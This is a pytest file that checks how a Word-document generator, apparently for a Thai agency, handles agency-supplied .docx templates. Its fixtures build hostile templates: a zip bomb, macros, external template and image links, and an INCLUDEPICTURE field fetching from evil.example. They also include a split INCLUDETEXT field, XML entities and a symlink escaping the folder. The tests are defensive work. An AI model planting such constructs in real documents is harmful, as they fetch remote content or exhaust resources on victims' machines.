"""The agency's own template: used where it is one, refused in words where it is a trap or has no place for content."""

from __future__ import annotations

from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from docx import Document
from PIL import Image

from generator.findings.usage import UsageProblem
from generator.official_papers.paper import Signer
from generator.official_papers.word.document import word_document
from generator.official_papers.word.template import OWN, shipped, template_of
from tests.official_papers.test_word_tables import order, papers, sample
from tests.small_documents import repacked

RELATIONS = "word/_rels/document.xml.rels"


def png() -> bytes:
    out = BytesIO()
    Image.new("RGB", (4, 4), "green").save(out, "PNG")
    return out.getvalue()


def put(folder: Path, raw: bytes) -> Path:
    path = folder / OWN
    path.parent.mkdir(parents=True)
    path.write_bytes(raw)
    return folder


def changed(part: str, before: str, after: str) -> bytes:
    with ZipFile(BytesIO(shipped())) as packed:
        text = packed.read(part).decode()
    assert before in text
    return repacked(shipped(), {part: text.replace(before, after).encode()})


def related(kind: str, target: str) -> bytes:
    relation = (
        '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    return changed(RELATIONS, "</Relationships>", relation)


def bomb() -> bytes:
    out = BytesIO()
    with ZipFile(BytesIO(shipped())) as packed, ZipFile(out, "w", ZIP_DEFLATED) as trap:
        for name in packed.namelist():
            trap.writestr(name, packed.read(name))
        trap.writestr("word/media/x.xml", b" " * 300_000_000)
    return out.getvalue()


FIELD = '<w:r><w:instrText>INCLUDEPICTURE "http://evil.example/x"</w:instrText></w:r></w:p>'
BAD: dict[str, tuple[Callable[[], bytes], str]] = {
    "no package": (lambda: b"PK\x03\x04 rest", "แฟ้มเสีย"),
    "a text": ("เอกสาร".encode, "แฟ้มเสีย"),
    "a bomb": (bomb, "ใหญ่ผิดปกติ"),
    "no place for the content": (lambda: changed("word/document.xml", "{เนื้อหา}", "เนื้อหา"), "{เนื้อหา}"),
    "no page": (lambda: changed("word/document.xml", "w:sectPr", "w:ignored"), "หน้ากระดาษ"),
    "macros": (lambda: repacked(shipped(), {"word/vbaProject.bin": b"x"}), "มาโคร"),
    "a template from elsewhere": (lambda: related("attachedTemplate", "http://evil.example/t.dotm"), "แม่แบบจากที่อื่น"),
    "a picture from elsewhere": (lambda: related("image", "http://evil.example/x.png"), "ดึงมาจากนอกแฟ้ม"),
    "a field that fetches": (lambda: changed("word/document.xml", "</w:p>", FIELD), "field"),
    "a field cut up in the head": (
        lambda: changed(
            "word/header1.xml", " PAGE </w:instrText>", " INCLUDE</w:instrText><w:instrText>TEXT x</w:instrText>"
        ),
        "field",
    ),
    "entities": (
        lambda: changed("word/document.xml", "<w:document", '<!DOCTYPE a [<!ENTITY b "c">]><w:document'),
        "แฟ้ม",
    ),
}


@pytest.mark.parametrize("case", BAD.values(), ids=BAD.keys())
def test_what_cannot_serve_as_template_is_refused_with_its_cause(
    case: tuple[Callable[[], bytes], str], tmp_path: Path
) -> None:
    make, cause = case
    with pytest.raises(UsageProblem) as refused:
        template_of(put(tmp_path, make()))
    assert refused.value.finding.code == "U982"
    assert cause in refused.value.finding.message


def test_a_template_outside_the_folder_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "secret.docx").write_bytes(shipped())
    (tmp_path / "agency" / OWN.parent).mkdir(parents=True)
    try:
        (tmp_path / "agency" / OWN).symlink_to(tmp_path / "secret.docx")
    except OSError:
        pytest.skip("this system lets nobody make links")
    with pytest.raises(UsageProblem, match="นอกโฟลเดอร์"):
        template_of(tmp_path / "agency")


def test_an_own_template_gives_the_paper_its_words_styles_and_page(tmp_path: Path) -> None:
    own = Document(BytesIO(shipped()))
    own.styles["OIT Cell"].font.name = "Own Typeface"
    own.styles["OIT Cell"].element.set(own.styles["OIT Cell"].element.attrib.keys()[-1], "a1")
    own.paragraphs[1].insert_paragraph_before("บันทึกข้อความ")
    cut = next(paragraph for paragraph in own.paragraphs if "{ผู้ลงนาม}" in paragraph.text)
    cut.runs[0].text = "({ผู้"
    cut.add_run("ลง")
    cut.add_run("นาม}) ผู้มีอำนาจ")
    kept = BytesIO()
    own.save(kept)
    (paper, *_) = papers(order(sample(), 2569))

    made = Document(
        BytesIO(word_document(paper, template_of(put(tmp_path, kept.getvalue())), "ก", Signer("นาย ข", "ค")))
    )
    words = [paragraph.text for paragraph in made.paragraphs]
    assert "บันทึกข้อความ" in words
    assert "(นาย ข) ผู้มีอำนาจ" in words
    assert {p.style.name for row in made.tables[0].rows[1:] for cell in row.cells for p in cell.paragraphs} == {
        "OIT Cell",
        "OIT Cell Centre",
    }


def test_a_template_without_our_styles_still_takes_the_content(tmp_path: Path) -> None:
    plain = Document()
    plain.add_paragraph("{ชื่อเอกสาร} ของ{หน่วยงาน}")
    plain.add_paragraph("{เนื้อหา}")
    kept = BytesIO()
    plain.save(kept)
    (paper, *_) = papers(order(sample(), 2569))
    made = Document(BytesIO(word_document(paper, template_of(put(tmp_path, kept.getvalue())), "อบต.ก", Signer())))
    assert made.paragraphs[0].text.endswith("ของอบต.ก")
    assert len(made.tables) == 3
    assert made.paragraphs[1].style == made.styles["Heading 1"]


@pytest.mark.parametrize(("emblem", "pictures"), [(png(), 1), (b"\x89PNG\r\n\x1a\n", 0), (b"<svg/>", 0), (None, 0)])
def test_an_emblem_stands_over_the_title_where_it_is_a_picture(emblem: bytes | None, pictures: int) -> None:
    (paper, *_) = papers(order(sample(), 2569))
    made = Document(BytesIO(word_document(paper, shipped(), "อบต.ก", Signer(), emblem)))
    assert len(made.inline_shapes) == pictures
    assert all("ตรา}" not in paragraph.text for paragraph in made.paragraphs)
